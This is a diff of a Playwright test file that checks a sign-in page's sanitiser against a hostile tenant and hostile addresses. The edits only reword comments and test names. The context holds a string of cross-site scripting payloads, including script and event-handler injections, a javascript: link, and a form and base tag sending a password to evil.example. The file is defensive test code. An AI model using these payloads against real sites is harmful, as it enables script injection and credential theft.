@@ -7,7 +7,7 @@ import { startHostedBuild } from '../setup/hosted-build.ts';
 import { expectRendered } from '../setup/rendered.ts';
 import { startSignIn } from './steps.ts';
 
-/** A page that sanitises badly would run, load or show these. */
+/** HTML that a page with a bad sanitiser would run, load or show. */
 const HTML = `<script>alert(1)</script> <img src=x onerror=alert(1)> <svg onload=alert(1)> <b onclick=alert(1)>x</b>
   <a href="java&Tab;script:alert(1)">x</a> <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
   <form action="https://evil.example/"><input name="password"></form> <base href="https://evil.example/">
@@ -41,7 +41,7 @@ const startHostileServer = () =>
     else send(400, { code: 'hostile.code', message: HTML });
   }, 0);
 
-/** What the page has run, opened or asked of other hosts; the array grows. */
+/** Records the code that the page runs, the windows that it opens and its requests to other hosts; the array grows. */
 async function watchPage(page: Page, origin: string): Promise<string[]> {
   const done: string[] = [];
   await page.exposeFunction('tell', (text: string) => done.push(text));
@@ -58,10 +58,10 @@ async function watchPage(page: Page, origin: string): Promise<string[]> {
 const tracesOf = (page: Page): Promise<string[]> =>
   page.evaluate(`(${tracesIn.toString()})(document, ${JSON.stringify(MARK)})`);
 
-test('hostile addresses run, show, load and open nothing', async ({ page, site, messages }) => {
+test('runs, shows, loads and opens nothing of hostile addresses', async ({ page, site, messages }) => {
   await startSignIn(page, 'social');
   const done = await watchPage(page, site.origin);
-  // Some go on by themselves, to a provider or to the application.
+  // Some pages continue by themselves, to a provider or to the application.
   const stay = hostileAddresses(30).filter((address) => !/^\/(direct|(sign-in\/)?consent)\b/.test(address));
   for (const address of stay.slice(0, 12)) {
     await page.goto(site.origin + address, { waitUntil: 'commit' });
@@ -72,11 +72,11 @@ test('hostile addresses run, show, load and open nothing', async ({ page, site, 
 });
 
 test.describe('a hostile tenant', () => {
-  // The browser reports handlers that the sanitiser only parses.
+  // The browser reports event handlers even if the sanitiser only parses them.
   const reports = /ecurity [Pp]olicy|Failed to load resource|Settings that could not be used|@import/;
   test.use({ possibleWarnings: [reports] });
 
-  test('runs and loads nothing, and leaves the form within reach', async ({ page }) => {
+  test('runs and loads nothing, and cannot block the form', async ({ page }) => {
     const server = await startHostileServer();
     const host = await startHostedBuild({ backend: server.origin });
     const done = await watchPage(page, host.origin);
@@ -95,7 +95,7 @@ test.describe('a hostile tenant', () => {
     await server.close();
   });
 
-  test('that runs something is found', async ({ page, site }) => {
+  test('is found if it runs something', async ({ page, site }) => {
     const done = await watchPage(page, site.origin);
     await page.goto('/unknown-session');
     await expectRendered(page);
